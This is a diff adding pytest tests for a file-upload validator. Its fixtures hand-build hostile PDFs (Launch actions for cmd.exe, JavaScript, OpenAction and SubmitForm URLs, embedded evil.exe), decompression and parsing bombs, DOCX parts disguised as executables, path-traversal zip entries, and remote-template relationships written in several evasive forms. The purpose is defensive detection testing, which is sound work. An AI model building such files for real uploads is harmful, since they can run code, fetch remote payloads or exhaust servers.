@@ -6,6 +6,7 @@ import struct
 import time
 import tracemalloc
 import zipfile
+import zlib
 
 import openpyxl
 import pytest
@@ -254,6 +255,129 @@ def test_an_active_pdf_is_refused(change):
     assert refusal(pdf_bytes(change)) == "active"
 
 
+CATALOGUE = b"<</Type/Catalog/Pages 2 0 R>>"
+LEAF = b"/Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]"
+
+
+def raw_pdf(extra=b"", *more, catalogue=CATALOGUE) -> bytes:
+    """A file of one page, object by object, as no library would write it."""
+    objects = [
+        catalogue,
+        b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
+        b"<<" + LEAF + extra + b">>",
+        *more,
+    ]
+    out, offsets = b"%PDF-1.5\n", []
+    for number, content in enumerate(objects, 1):
+        offsets.append(len(out))
+        out += b"%d 0 obj\n%s\nendobj\n" % (number, content)
+    table = b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
+    size, at = len(objects) + 1, len(out)
+    out += b"xref\n0 %d\n0000000000 65535 f \n%s" % (size, table)
+    return out + b"trailer <</Size %d /Root 1 0 R>>\nstartxref\n%d\n%%%%EOF\n" % (size, at)
+
+
+def note(content: bytes) -> bytes:
+    return b"/Annots[<</Type/Annot/Rect[0 0 9 9]" + content + b">>]"
+
+
+def opening(content: bytes) -> bytes:
+    return b"<</Type/Catalog/Pages 2 0 R/OpenAction " + content + b">>"
+
+
+@pytest.mark.parametrize(
+    "content",
+    [
+        raw_pdf(note(b"/Subtype/Link/A<</S/Launch/F(cmd.exe)>>")),
+        raw_pdf(note(b"/Subtype/Link/A 4 0 R"), b"<</S/JavaScript/JS(app.alert(1))>>"),
+        raw_pdf(note(b"/Subtype/Link/A<</S/SubmitForm/F(http://192.0.2.1/)>>")),
+        raw_pdf(note(b"/Subtype/Link/A<</S/GoToR/F(other.pdf)/D[0/Fit]>>")),
+        raw_pdf(note(b"/Subtype/Link/A<</S/GoToE/T<</R/C>>>>")),
+        raw_pdf(note(b"/Subtype/Link/A<</S/URI/URI(http://192.0.2.1/)/Next[<</S/Launch/F(a)>>]>>")),
+        raw_pdf(note(b"/Subtype/Screen/AA<</PV<</S/GoTo>>>>")),
+        raw_pdf(note(b"/Subtype/FileAttachment/FS<</F(evil.exe)>>")),
+        raw_pdf(note(b"/Subtype/Link/FS<</F(evil.exe)/EF<</F 4 0 R>>>>"), b"<<>>"),
+        raw_pdf(note(b"/Subtype/RichMedia")),
+        raw_pdf(b"/Resources<</Font 4 0 R>>" + note(b"/A 4 0 R"), b"<</JS(app.alert(1))>>"),
+        raw_pdf(catalogue=opening(b"<</S/URI/URI(http://192.0.2.1/)>>")),
+        raw_pdf(catalogue=opening(b"<</S/GoTo/D[3 0 R/Fit]/Next<</S/URI/URI(http://192.0.2.1/)>>>>")),
+        raw_pdf(b"", b"<</T(a)/FT/Tx/AA<<>>>>", catalogue=CATALOGUE[:-2] + b"/AcroForm<</Fields[4 0 R]>>>>"),
+    ],
+)
+def test_an_action_anywhere_in_a_pdf_is_found(content):
+    assert refusal(content) == "active"
+
+
+@pytest.mark.parametrize(
+    "content",
+    [
+        raw_pdf(),
+        raw_pdf(note(b"/Subtype/Link/A<</S/URI/URI(https://example.org/)>>")),
+        raw_pdf(b"/Resources<</Font<</AA 4 0 R/JS 4 0 R>>>>", b"<</Type/Font/Subtype/Type1>>"),
+        raw_pdf(catalogue=opening(b"[3 0 R/Fit]")),
+        raw_pdf(catalogue=opening(b"<</S/GoTo/D[3 0 R/Fit]>>")),
+        raw_pdf(b"/B 99 0 R"),
+    ],
+)
+def test_what_a_reader_clicks_or_a_font_is_called_is_fine(content):
+    assert accepted(content).kind is Kind.PDF
+
+
+def test_a_pdf_of_countless_objects_is_not_walked_to_its_end(monkeypatch):
+    content = raw_pdf(b"/X[" + b"".join(b"%d 0 R " % n for n in range(4, 54)) + b"]", *[b"<<>>"] * 50)
+    assert accepted(content).kind is Kind.PDF
+    monkeypatch.setattr(uploads.pdf, "MAX_OBJECTS", 40)
+    assert refusal(content) == "too_many_parts"
+
+
+def test_a_pdf_that_is_read_over_and_over_is_given_up():
+    """Each object with a wrong place has the library search the whole file."""
+    count = 400
+    content = raw_pdf(
+        b"/X[" + b"".join(b"%d 0 R " % n for n in range(4, 4 + count)) + b"]",
+        *[b"<<>>"] * count,
+        b"<</Length 4000000>>stream\n" + b"x" * 4_000_000 + b"\nendstream",
+    )
+    head, _xref, table = content.rpartition(b"xref\n0")
+    lines = table.split(b"\n")
+    lines[6 : 5 + count] = [b"%010d 00000 n " % (2_000_000 + number) for number in range(count - 1)]
+    assert refusal(head + b"xref\n0" + b"\n".join(lines)) == "too_many_parts"
+
+
+def test_objects_packed_to_explode_are_refused(monkeypatch):
+    packed = zlib.compress(b"5 0 <</Type/Catalog/Pages 2 0 R>>" + b" " * 2_000_000)
+    stream = b"<</Type/ObjStm/N 1/First 4/Filter/FlateDecode/Length %d>>stream\n%s\nendstream"
+    out, offsets = b"%PDF-1.5\n", {}
+    for number, content in {
+        2: b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
+        3: b"<<" + LEAF + b">>",
+        4: stream % (len(packed), packed),
+    }.items():
+        offsets[number] = len(out)
+        out += b"%d 0 obj\n%s\nendobj\n" % (number, content)
+    rows = [b"\0" * 8, b"\0" * 8, *(b"\1" + struct.pack(">IxBx", offsets[n], 0) for n in (2, 3, 4))]
+    rows.append(b"\2" + struct.pack(">IxBx", 4, 0))
+    rows.append(b"\1" + struct.pack(">IxBx", len(out), 0))
+    table = b"".join(rows)
+    out_at = len(out)
+    out += b"6 0 obj\n<</Type/XRef/Size 7/W[1 4 3]/Root 5 0 R/Length %d>>stream\n" % len(table)
+    out += table + b"\nendstream\nendobj\nstartxref\n%d\n%%%%EOF\n" % out_at
+    assert accepted(out).kind is Kind.PDF
+    monkeypatch.setattr(uploads.pdf, "MAX_PACKED", 1_000_000)
+    assert refusal(out) == "bomb"
+
+
+def test_a_picture_of_countless_scans_is_refused_before_decoding():
+    plain = image_bytes("JPEG", (640, 480), progressive=True)
+    assert accepted(plain).kind is Kind.JPG
+    start = plain.rindex(b"\xff\xda")
+    scan = plain[start:-2]
+    assert refusal(plain[:-2] + scan * 200 + plain[-2:]) == "bomb"
+    # A comment may say what it likes, and so may what follows behind the end.
+    comment = image_bytes("JPEG", comment=b"\xff\xda" * 300)
+    assert accepted(comment + b"\xff\xda" * 300).kind is Kind.JPG
+
+
 def test_a_picture_with_too_many_pixels_is_refused_before_decoding():
     bomb = image_bytes("PNG", (12_000, 12_000), "1")
     assert len(bomb) < 100_000
@@ -277,7 +401,12 @@ def test_a_picture_with_a_wrong_checksum_is_refused():
     [
         ({"word/vbaProject.bin": b"x"}, "active"),
         ({"word/inner.zip": b"x"}, "disguised"),
-        ({"word/embeddings/a.bin": zip_bytes({"b": b"x"})}, "disguised"),
+        ({"word/media/a.bin": zip_bytes({"b": b"x"})}, "disguised"),
+        ({"word/embeddings/oleObject1.bin": b"x"}, "disguised"),
+        ({"word/media/a.png": b"\xd0\xcf\x11\xe0" + b"\0" * 100}, "disguised"),
+        ({"word/media/a.png": b"MZ\x90\0" + b"\0" * 100}, "disguised"),
+        ({"word/_rels/a.rels": b"<Relationships"}, "broken"),
+        ({"word/_rels/a.rels": b"<Relationships/>" + b" " * 1_000_001}, "bomb"),
         ({"../evil.xml": b"<a/>"}, "broken"),
         ({"/etc/passwd": b"x"}, "broken"),
         ({"WORD/document.xml": b"<a/>"}, "broken"),
@@ -297,6 +426,29 @@ def test_a_picture_with_a_wrong_checksum_is_refused():
 def test_an_office_document_with_a_trick_inside_is_refused(parts, code):
     assert accepted(docx_bytes()).kind is Kind.DOCX
     assert refusal(docx_bytes(**parts)) == code
+
+
+TEMPLATE = (
+    'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate"'
+    ' Target="http://192.0.2.1/t.dotm"'
+)
+
+
+@pytest.mark.parametrize(
+    "relations",
+    [
+        f'<Relationships><Relationship Id="r" {TEMPLATE} TargetMode="External"/></Relationships>',
+        f'<p:a xmlns:p="urn:x"><p:Relationship Id="r" {TEMPLATE} TargetMode="External"/></p:a>',
+        f'<Relationships><Relationship Id="r" {TEMPLATE} TargetMode="&#69;xternal"/></Relationships>',
+        f'<Relationships><Relationship Id="a>b" {TEMPLATE} TargetMode="External"/></Relationships>',
+        f'<Relationships><Relationship Id="r" {TEMPLATE} TargetMode="external "/></Relationships>',
+        f'<a xmlns:p="urn:x"><Relationship Id="r" {TEMPLATE} p:TargetMode="External"/></a>',
+        f'<a><Relationship Id="&lt;Relationship Type=/hyperlink" {TEMPLATE} TargetMode="External"/></a>',
+    ],
+)
+@pytest.mark.parametrize("code", ["utf-8", "utf-16"])
+def test_no_way_of_writing_hides_what_loads_itself(relations, code):
+    assert refusal(docx_bytes(**{"word/_rels/settings.xml.rels": relations.encode(code)})) == "active"
 
 
 def test_too_many_members_are_refused():
